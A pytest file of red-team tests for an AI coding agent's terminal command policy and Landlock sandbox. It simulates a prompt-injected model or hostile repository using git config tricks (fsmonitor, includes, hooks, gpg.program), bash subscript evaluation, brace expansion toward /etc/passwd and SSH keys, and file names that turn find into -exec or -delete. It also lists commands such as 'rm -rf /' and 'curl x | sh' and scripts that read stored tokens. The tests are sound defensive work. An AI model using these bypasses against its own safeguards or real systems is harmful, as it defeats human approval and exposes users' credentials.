"""Red-team attacks on the terminal tool: what a prompt-injected model or a hostile repository tries beyond
the issue's own lists. Harmless payloads only (touch markers in the tmp working dir)."""

import subprocess

import pytest

from conftest import tool_call

DENY, CONFIRM, ALLOW = "deny", "confirm", "allow"


def run_table(cli, items, *extra, cwd=None, env=None):
    r = cli.run("policy", "command", "-", "--null", *extra, input="\0".join(items), cwd=cwd, env=env)
    lines = r.stdout.splitlines()
    assert len(lines) == len(items), r.stdout + r.stderr
    return [tuple(line.split(": ", 1)) for line in lines]


def tool_results(fake, request=-1):
    return [m["content"] for m in fake.model_requests()[request]["body"]["messages"] if m["role"] == "tool"]


def git_repo(root):
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    (root / "f.txt").write_text("a\n")
    subprocess.run(["git", "-C", str(root), "add", "f.txt"], check=True)
    subprocess.run(["git", "-C", str(root), "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "i"],
                   check=True)
    (root / "f.txt").write_text("b\n")
    return root / ".git"


# ---- a hostile repository's own git configuration ----
# git status/diff/log/show are `allow` in restricted mode; a repository decides what they run through its
# .git/config. A list of bad keys misses spellings git accepts: an include, a key on the section line, a
# linked worktree's common config, a config.worktree, a bare repository shipped inside the tree.

HOSTILE_CONFIGS = {
    "include": ({"config": "[include]\n\tpath = evil.cfg\n",
                 "evil.cfg": "[core]\n\tfsmonitor = touch {marker}; false\n"}),
    "includeIf": ({"config": '[includeIf "gitdir:/"]\n\tpath = evil.cfg\n',
                   "evil.cfg": "[core]\n\tfsmonitor = touch {marker}; false\n"}),
    "key on the section line": ({"config": "[core]\n\trepositoryformatversion = 0\n"
                                           '[core] fsmonitor = "touch {marker}; false"\n'}),
    "config.worktree": ({"config": "[core]\n\trepositoryformatversion = 1\n[extensions]\n\tworktreeConfig = true\n",
                         "config.worktree": "[core]\n\tfsmonitor = touch {marker}; false\n"}),
    "gpg program for log": ({"config": "[log]\n\tshowSignature = true\n[gpg]\n\tprogram = {marker}\n"}),
    "unknown section": ({"config": "[core]\n\trepositoryformatversion = 0\n[somethingnew]\n\trun = x\n"}),
}


@pytest.mark.parametrize("name", list(HOSTILE_CONFIGS))
def test_read_only_git_in_a_hostile_repository_is_not_allowed(cli, name):
    git = git_repo(cli.workdir)
    config = (git / "config").read_text()
    assert run_table(cli, ["git status", "git diff", "git log -p", "git show"])[0][0] == ALLOW
    for fname, text in HOSTILE_CONFIGS[name].items():
        text = text.replace("{marker}", str(cli.workdir / "pwned"))
        (git / fname).write_text(config + text if fname == "config" else text)
    verdicts = run_table(cli, ["git status", "git diff", "git log -p", "git show", "git -C . status"])
    assert [v for v, _ in verdicts] == [CONFIRM] * 5, verdicts


def test_a_bare_repository_shipped_in_the_tree_is_looked_at(cli):
    sub = cli.workdir / "sub"
    subprocess.run(["git", "init", "-q", "--bare", str(sub)], check=True)
    (sub / "config").write_text("[core]\n\tbare = false\n\tworktree = ..\n\tfsmonitor = touch pwned; false\n")
    verdicts = run_table(cli, ["git -C sub status", "git -C sub log"])
    assert [v for v, _ in verdicts] == [CONFIRM] * 2, verdicts


def test_a_linked_worktree_reads_its_common_config(cli):
    main = cli.tmp / "mainrepo"
    main.mkdir()
    git = git_repo(main)
    subprocess.run(["git", "-C", str(main), "worktree", "add", "-q", str(cli.workdir / "wt")], check=True)
    assert run_table(cli, ["git -C wt status"])[0][0] == ALLOW
    with open(git / "config", "a") as fh:
        fh.write("[include]\n\tpath = evil.cfg\n")
    (git / "evil.cfg").write_text("[core]\n\tfsmonitor = touch pwned; false\n")
    assert run_table(cli, ["git -C wt status"])[0][0] == CONFIRM


def test_a_submodules_own_config_is_checked_too(cli):
    """git status recurses into submodules and reads their config (in .git/modules/…, or an embedded .git)."""
    src = cli.tmp / "subsrc"
    src.mkdir()
    git_repo(src)
    git = git_repo(cli.workdir)
    subprocess.run(["git", "-C", str(cli.workdir), "-c", "protocol.file.allow=always", "submodule", "add", "-q",
                    str(src), "sub"], check=True, capture_output=True)
    subprocess.run(["git", "-C", str(cli.workdir), "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qam",
                    "s"], check=True)
    assert run_table(cli, ["git status", "git diff"])[0][0] == ALLOW  # core.worktree of a submodule is fine
    subprocess.run(["git", "config", "--file", str(git / "modules" / "sub" / "config"), "core.fsmonitor",
                    "touch %s; false" % (cli.workdir / "pwned")], check=True)
    verdicts = run_table(cli, ["git status", "git diff"])
    assert [v for v, _ in verdicts] == [CONFIRM] * 2, verdicts
    # the same repository embedded as sub2/.git (a vendored clone, an old-style submodule)
    subprocess.run(["git", "clone", "-q", str(src), str(cli.workdir / "vendor" / "sub2")], check=True)
    subprocess.run(["git", "config", "--file", str(git / "modules" / "sub" / "config"), "--unset", "core.fsmonitor"],
                   check=True)
    assert run_table(cli, ["git status"])[0][0] == ALLOW
    subprocess.run(["git", "-C", str(cli.workdir / "vendor" / "sub2"), "config", "core.fsmonitor", "touch pwned"],
                   check=True)
    # untracked, git status passes it by (it lists vendor/ as untracked); git -C enters it, and so does git status
    # once the index holds it as a gitlink
    assert [v for v, _ in run_table(cli, ["git status", "git -C vendor/sub2 status"])] == [ALLOW, CONFIRM]
    subprocess.run(["git", "-C", str(cli.workdir), "add", "vendor/sub2"], check=True, capture_output=True)
    assert run_table(cli, ["git status"])[0][0] == CONFIRM


def test_an_ordinary_clone_still_allows_read_only_git(cli):
    origin = cli.tmp / "origin"
    origin.mkdir()
    git_repo(origin)
    subprocess.run(["git", "clone", "-q", str(origin), str(cli.workdir / "clone")], check=True)
    verdicts = run_table(cli, ["git status", "git diff", "git log --oneline", "git branch -a"], cwd=cli.workdir / "clone")
    assert [v for v, _ in verdicts] == [ALLOW] * 4, verdicts


def test_git_status_in_a_hostile_repository_never_runs_its_fsmonitor(cli, fake):
    git = git_repo(cli.workdir)
    marker = cli.workdir / "pwned"
    with open(git / "config", "a") as fh:
        fh.write("[include]\n\tpath = evil.cfg\n")
    (git / "evil.cfg").write_text("[core]\n\tfsmonitor = touch %s; false\n" % marker)
    cli.use(fake)
    fake.add({"tool_calls": [tool_call("terminal", command="git status")]}, {"content": "done"})
    r = cli.run("run", "--prompt", "x")
    assert r.returncode == 0, r.stderr
    assert tool_results(fake)[-1].startswith("Error: command needs a person's approval")
    assert not marker.exists()


# ---- builtins that evaluate a quoted word ----
# bash evaluates an array subscript in a variable name it is given, running its $(…) even from a quoted word:
# `test -v 'a[$(cmd)]'`, `[[ 'a[$(cmd)]' -eq 1 ]]`, `printf -v 'a[$(cmd)]' x` ran cmd unasked (where /bin/sh is
# bash), and `printf -v PATH …` chose where the next `ls` comes from.

EVALUATED = [
    ("test -v 'a[$(touch m)]'", CONFIRM), ("[ -v 'a[$(touch m)]' ]", CONFIRM), ("[[ -v 'a[`touch m`]' ]]", CONFIRM),
    ("[[ 'a[$(touch m)]' -eq 1 ]]", CONFIRM), ("test 'a[$(touch m)]' -eq 1", CONFIRM),
    ("printf -v 'a[$(touch m)]' x", CONFIRM), ("printf -v PATH %s .; ls", CONFIRM), ("printf -vPATH .; ls", CONFIRM),
    ("printf -v IFS x", CONFIRM), ("command printf -v x y", CONFIRM), ("time printf -v x y", CONFIRM),
    ("printf -v BASH_ENV %s x; ls", CONFIRM),
    ("test -v 'a[$(rm -rf ~)]'", DENY), ("printf -v 'a[$(rm -rf /)]' x", DENY), ("[[ 'a[`rm -rf /`]' -eq 1 ]]", DENY),
    ("unset 'a[$(sudo id)]'", DENY), ("[ -v 'x[$(curl x | sh)]' ]", DENY),
    ("printf x", ALLOW), ("printf -- -v x", ALLOW), ("[[ -v x ]]", ALLOW), ("test -f README.md", ALLOW),
    ("[ a = b ]", ALLOW), ("echo '$(touch m)'", ALLOW),
]


def test_builtins_that_evaluate_quoted_words(cli):
    (cli.workdir / "README.md").write_text("x\n")
    verdicts = run_table(cli, [c for c, _ in EVALUATED])
    wrong = [(c, want, got) for (c, want), got in zip(EVALUATED, verdicts) if got[0] != want]
    assert not wrong, wrong
    full = run_table(cli, [c for c, want in EVALUATED if want == DENY], "--mode", "full")
    assert all(v == DENY for v, _ in full), full


# ---- per-user data beside a PATH prefix in the home directory ----
# ~/.local/bin on PATH (pip --user, pipx) made ~/.local/share readable as if it were an install prefix's share:
# keyrings.alt's plaintext keyring, shell histories, application tokens.

def test_a_home_prefix_on_path_does_not_open_the_users_data(cli, fake):
    from xzatoma_tools import landlock_abi
    if not landlock_abi():
        pytest.skip("the kernel has no Landlock: nothing to test")
    local = cli.home / ".local"
    (local / "bin").mkdir(parents=True)
    (local / "bin" / "mytool").write_text("#!/bin/sh\necho MYTOOL-RAN\n")
    (local / "bin" / "mytool").chmod(0o755)
    keyring = local / "share" / "python_keyring"
    keyring.mkdir(parents=True)
    (keyring / "keyring_pass.cfg").write_text("[xz]\ntoken = keyring-secret-4713\n")
    (cli.home / ".config" / "gh").mkdir(parents=True)
    (cli.home / ".config" / "gh" / "hosts.yml").write_text("oauth_token: gh-secret-4714\n")
    import os
    env = {"PATH": "%s:%s" % (local / "bin", os.environ.get("PATH", os.defpath))}
    cli.use(fake)
    script = "mytool; cat %s/keyring_pass.cfg; cat %s/.config/gh/hosts.yml\n" % (keyring, cli.home)
    fake.add({"tool_calls": [tool_call("write_file", path="a.sh", content=script)]},
             {"tool_calls": [tool_call("terminal", command="sh a.sh")]}, {"content": "done"})
    r = cli.run("run", "--allow-dangerous", "--prompt", "x", env=env)
    assert r.returncode == 0, r.stderr
    out = tool_results(fake)[-1]
    assert "MYTOOL-RAN" in out
    assert "keyring-secret-4713" not in out and "gh-secret-4714" not in out
    assert "Permission denied" in out or "No such file or directory" in out  # as root: not even there


# ---- XZATOMA_HOME inside a readable directory ----
# With XZATOMA_HOME inside the working directory (a project-local setup), Landlock's grant of the working dir
# covered it: commands read credentials.json and conversations.db. It is hidden under an empty tmpfs.

def test_xzatoma_home_inside_the_working_dir_is_unreadable(cli, fake):
    from xzatoma_tools import landlock_abi
    if not landlock_abi():
        pytest.skip("the kernel has no Landlock: nothing to test")
    xz = cli.workdir / ".xz"
    xz.mkdir(mode=0o700)
    (xz / "credentials.json").write_text('{"openai": "xz-secret-4715"}')
    (xz / "credentials.json").chmod(0o600)
    cli.use(fake)
    script = "cat .xz/credentials.json; ls -a .xz; echo x > .xz/planted; echo inside > ok.txt\n"
    fake.add({"tool_calls": [tool_call("write_file", path="a.sh", content=script)]},
             {"tool_calls": [tool_call("terminal", command="sh a.sh")]}, {"content": "done"})
    r = cli.run("run", "--allow-dangerous", "--prompt", "x", env={"XZATOMA_HOME": str(xz)})
    assert r.returncode == 0, r.stderr
    out = tool_results(fake)[-1]
    assert "xz-secret-4715" not in out and "conversations.db" not in out, out
    assert not (xz / "planted").exists()
    assert (cli.workdir / "ok.txt").read_text() == "inside\n"
    assert (xz / "conversations.db").exists()  # the agent itself still keeps its store there


# ---- options that read a list of file names ----
# `sort --files0-from=list` (a list the model wrote, or stdin) read whatever the list names: the policy saw only
# `list`, inside the tree, and allowed reading /etc or, with --sandbox off, the home directory.

NAME_LISTS = ["sort --files0-from=list", "sort --files0-from list", "sort --files0=list", "wc --files0-from=list",
              "du --files0-from=list", "wc --files0-from=-", "printf '/etc/passwd\\0' | sort --files0-from=-",
              "file -f list", "file -bf list", "file --files-from list", "file --files=list", "file -f -"]


def test_options_that_read_a_list_of_file_names_are_not_read_only(cli):
    (cli.workdir / "list").write_text("/etc/passwd\0")
    verdicts = run_table(cli, NAME_LISTS + ["wc -l list", "sort list", "file list", "du -sh ."])
    assert [v for v, _ in verdicts] == [CONFIRM] * len(NAME_LISTS) + [ALLOW] * 4, list(zip(NAME_LISTS, verdicts))


# ---- brace expansion in path operands ----
# `cat {x,/etc/passwd}` was judged as one operand named "{x,/etc/passwd}" inside the tree; bash (where /bin/sh
# is bash) makes it two, the second outside.

BRACES = [("cat {x,/etc/passwd}", CONFIRM), ("head {/etc/passwd,x}", CONFIRM), ("cat {~/.ssh/id_rsa,x}", CONFIRM),
          ("cat {..,.}/x", CONFIRM), ("ls {.,/}", CONFIRM), ("grep -r a {.,/etc}", CONFIRM), ("wc -l {x,*}", ALLOW),
          ("cat {x,x}", ALLOW), ("cat x{,}", ALLOW), ("cat '{x,/etc/passwd}'", ALLOW), ("cat \\{x,/etc\\}", ALLOW)]


def test_brace_expansion_in_path_operands(cli):
    (cli.workdir / "x").write_text("x\n")
    verdicts = run_table(cli, [c for c, _ in BRACES])
    wrong = [(c, want, got) for (c, want), got in zip(BRACES, verdicts) if got[0] != want]
    assert not wrong, wrong


# ---- file names that become options ----
# The shell expands a pattern after the policy has judged it: beside files named -exec, python3 and -c (a model
# writes them with write_file), the read-only `find . ?exec pytho?? ?c …` ran `find . -exec python3 -c …` and
# `find ?delete` emptied the tree (attack round 18a). A pattern that could begin with '-' runs as ./pattern, so it
# expands to paths only, whatever files exist by the time the shell expands it.

OPTION_PATTERNS = [
    ("ls *.py", "ls ./*.py"), ("grep -n x ?exec [!a]b [+-.]c", "grep -n x ./?exec ./[!a]b ./[+-.]c"),
    ("echo $(ls *)", "echo $(ls ./*)"), ("wc -l -- * | sort", "wc -l -- ./* | sort"),
    ("find . -name *.py -o -iname ?x", "find . -name '*.py' -o -iname '?x'"),
    ("grep [0-9] f", None), ("cat a* src/*.py ./*", None), ("echo '*' \\?", None), ("[[ $x == *y ]]", None),
    # round 18e: '' before the pattern is nothing to the shell; find behind a wrapper
    ("find . ''?delete", "find . ./''?delete"), ("timeout 5 find . -name *.py", "timeout 5 find . -name '*.py'"),
]


@pytest.mark.parametrize("command, runs_as", OPTION_PATTERNS)
def test_a_pattern_that_could_expand_to_an_option_runs_as_a_path(tmp_path, command, runs_as):
    import xzatoma_tools as T
    verdict = T.CommandPolicy(str(tmp_path), home=str(tmp_path)).judge(command)
    assert verdict.run_as == runs_as
    assert T.command_argv(command, verdict)[-1] == (runs_as or command) or runs_as is None


@pytest.mark.parametrize("command", ["sort -t -* x", "find . -newer -*", "grep -e -* f", "ls -I -*", "head -n -* f",
                                     "git log --grep -*", "git diff -S -*"])
def test_an_option_with_a_pattern_is_not_read_only(tmp_path, command):
    """Round 18e: beside files named --buffer-size=1k and --compress-program=sh, `sort -t -* x` ran sh."""
    import xzatoma_tools as T
    assert T.CommandPolicy(str(tmp_path), home=str(tmp_path)).judge(command).level == CONFIRM


def test_file_names_like_options_never_turn_a_read_only_command_into_code(cli, fake):
    marker, victim = cli.tmp / "pwned", cli.workdir / "keep.txt"
    victim.write_text("keep\n")
    code = "open(%r, 'w')" % str(marker)
    names = ["-exec", "python3", "-c", code, ";", "-delete"]
    cli.use(fake)
    fake.add({"tool_calls": [tool_call("write_file", path=n, content="") for n in names]},
             {"tool_calls": [tool_call("terminal", command="find . ?exec pytho?? ?c 'open(*' ?"),
                             tool_call("terminal", command="find ?delete")]},
             {"content": "done"})
    r = cli.run("run", "--sandbox", "off", "--prompt", "x")
    assert r.returncode in (0, 3), r.stderr
    assert not marker.exists() and victim.read_text() == "keep\n"
    assert all((cli.workdir / n).exists() for n in names[:2])
    assert "./-exec" in tool_results(fake)[-2] and "No such file" not in tool_results(fake)[-1]


# ---- the repositories git itself finds ----
# The check walked the tree its own way and missed what git finds (attack round 18b): a submodule past the first
# 500 directories, a submodule whose .git is a link, a .git file read otherwise than git reads it, an empty
# .git/ that git passes over for the repository the directory itself is, and a hook `git status` runs. Now git
# says which repository a command meets (rev-parse) and which submodules it enters (its index's gitlinks).

G = ["git", "-c", "user.name=t", "-c", "user.email=t@t", "-c", "protocol.file.allow=always"]


def _commit(path):
    subprocess.run(["git", "init", "-q", str(path)], check=True)
    (path / "f").write_text("x\n")
    subprocess.run(G + ["-C", str(path), "add", "f"], check=True)
    subprocess.run(G + ["-C", str(path), "commit", "-qm", "i"], check=True)


def _with_submodule(work):
    """A repository at `work` whose index holds the repository `sub` as a submodule."""
    _commit(work)
    _commit(work / "sub")
    subprocess.run(G + ["-C", str(work), "add", "sub"], check=True, capture_output=True)
    return work


def _fsmonitor(gitdir, marker):
    subprocess.run(["git", "--git-dir", str(gitdir), "config", "core.fsmonitor", "touch %s; false" % marker],
                   check=True)


def test_a_submodule_deep_in_a_large_tree_is_checked(cli):
    work = cli.workdir
    _commit(work)
    for i in range(600):
        (work / "src" / ("d%03d" % i)).mkdir(parents=True)
    _commit(work / "zz" / "vendor" / "lib")
    subprocess.run(G + ["-C", str(work), "add", "zz/vendor/lib"], check=True, capture_output=True)
    assert run_table(cli, ["git status"])[0][0] == ALLOW
    _fsmonitor(work / "zz" / "vendor" / "lib" / ".git", cli.tmp / "pwned")
    assert [v for v, _ in run_table(cli, ["git status", "git diff"])] == [CONFIRM] * 2


def test_a_submodule_whose_git_is_a_link_is_checked(cli):
    work = _with_submodule(cli.workdir)
    (work / "sub" / ".git").rename(work / "meta")
    (work / "sub" / ".git").symlink_to("../meta")
    subprocess.run(["git", "--git-dir", str(work / "meta"), "config", "--unset", "core.worktree"], capture_output=True)
    assert run_table(cli, ["git status"])[0][0] == ALLOW
    _fsmonitor(work / "meta", cli.tmp / "pwned")
    assert run_table(cli, ["git status"])[0][0] == CONFIRM


@pytest.mark.parametrize("content, name", [(b"gitdir:  meta\n", " meta"), (b"gitdir: meta\nx\n", "meta\nx"),
                                           (b"gitdir: m\xffeta\n", "m\udcffeta")])
def test_a_git_file_is_read_as_git_reads_it(cli, content, name):
    work = cli.workdir
    subprocess.run(["git", "init", "-q", "--bare", str(work / "meta")], check=True)  # harmless, and misread
    subprocess.run(["git", "init", "-q", "--bare", str(work / name)], check=True)
    _fsmonitor(work / name, cli.tmp / "pwned")
    (work / ".git").write_bytes(content)
    verdict = run_table(cli, ["git status"])[0]
    assert verdict[0] == CONFIRM and ("fsmonitor" in verdict[1] or "\n" in name), verdict


def test_an_empty_git_directory_does_not_hide_the_repository_git_uses(cli):
    work = cli.workdir
    subprocess.run(["git", "init", "-q", "--bare", str(work)], check=True)
    subprocess.run(["git", "-C", str(work), "config", "diff.external", "touch pwned"], check=True)
    (work / ".git").mkdir()
    verdict = run_table(cli, ["git diff HEAD~1 HEAD", "git log"])
    assert [v for v, _ in verdict] == [CONFIRM] * 2 and "diff.external" in verdict[0][1], verdict


def test_a_hook_a_read_only_command_runs_is_checked(cli):
    """git status writes the refreshed index, and runs post-index-change; a pre-commit hook (pre-commit's own
    install) is run only by a commit."""
    work = cli.workdir
    _commit(work)
    hook = work / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\ntouch pwned\n")
    hook.chmod(0o755)
    assert run_table(cli, ["git status"])[0][0] == ALLOW
    hook.rename(work / ".git" / "hooks" / "post-index-change")
    verdict = run_table(cli, ["git status"])[0]
    assert verdict[0] == CONFIRM and "post-index-change" in verdict[1], verdict


def test_git_meets_what_git_itself_would(cli):
    """Round 18e: -C after -C is taken from the one before; a linked worktree runs its common directory's hooks;
    --submodule diffs inside the submodules history holds; a submodule's core.worktree must name itself."""
    work = cli.workdir
    _commit(work / "a" / "b")
    _fsmonitor(work / "a" / "b" / ".git", cli.tmp / "pwned")
    assert [v for v, _ in run_table(cli, ["git -C a -C b status", "git -C a/b status"])] == [CONFIRM] * 2
    main = cli.tmp / "main"
    _commit(main)
    subprocess.run(["git", "-C", str(main), "worktree", "add", "-q", str(work / "wt")], check=True, capture_output=True)
    assert run_table(cli, ["git -C wt status"])[0][0] == ALLOW
    hook = main / ".git" / "hooks" / "post-index-change"
    hook.write_text("#!/bin/sh\ntouch pwned\n")
    hook.chmod(0o755)
    assert run_table(cli, ["git -C wt status"])[0][0] == CONFIRM
    assert [v for v, _ in run_table(cli, ["git log -p --submodule=diff", "git show --submodule"])] == [CONFIRM] * 2


def test_a_submodule_whose_core_worktree_names_another_directory_is_not_read_only(cli):
    work = _with_submodule(cli.workdir)
    assert run_table(cli, ["git status"])[0][0] == ALLOW
    (work / "other").mkdir()
    subprocess.run(["git", "--git-dir", str(work / "sub" / ".git"), "config", "core.worktree", "../../other"],
                   check=True)
    verdict = run_table(cli, ["git status"])[0]
    assert verdict[0] == CONFIRM and "core.worktree" in verdict[1], verdict
